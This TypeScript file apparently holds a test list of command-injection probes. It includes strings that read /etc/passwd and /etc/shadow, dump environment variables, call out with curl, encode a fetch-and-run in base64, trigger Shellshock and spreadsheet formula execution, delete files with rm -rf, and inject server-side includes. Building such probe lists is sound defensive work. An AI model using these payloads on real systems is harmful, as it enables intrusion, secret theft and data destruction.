// biome-ignore-all lint/suspicious/noTemplateCurlyInString: a probe is text, not a template of ours
/** Probes that want a shell to run a command of theirs. */
export const commandProbes: readonly string[] = [
  '; cat /etc/passwd',
  '| whoami',
  '&& curl http://example.com/probe',
  '$(sleep 10)',
  '`id`',
  "'; ping -c 10 127.0.0.1 #",
  'feedback\n/bin/sh -c "env"',
  '%0a%2Fbin%2Fcat%20%2Fetc%2Fshadow',
  'O2N1cmwgaHR0cDovL2V4YW1wbGUuY29tL3Byb2JlfHNo',
  '|| powershell -NoProfile -Command "Get-ChildItem Env:"',
  '() { :;}; echo probed',
  '${IFS}cat${IFS}/proc/self/environ',
  "=cmd|'/C calc'!A0",
  "@SUM(1+1)*cmd|'/C calc'!A0",
  'name.png; rm -rf -- "$HOME/probe" &',
  '<!--#exec cmd="id" -->; id #"><img src=http://example.com/probe onerror=probed=1>',
]
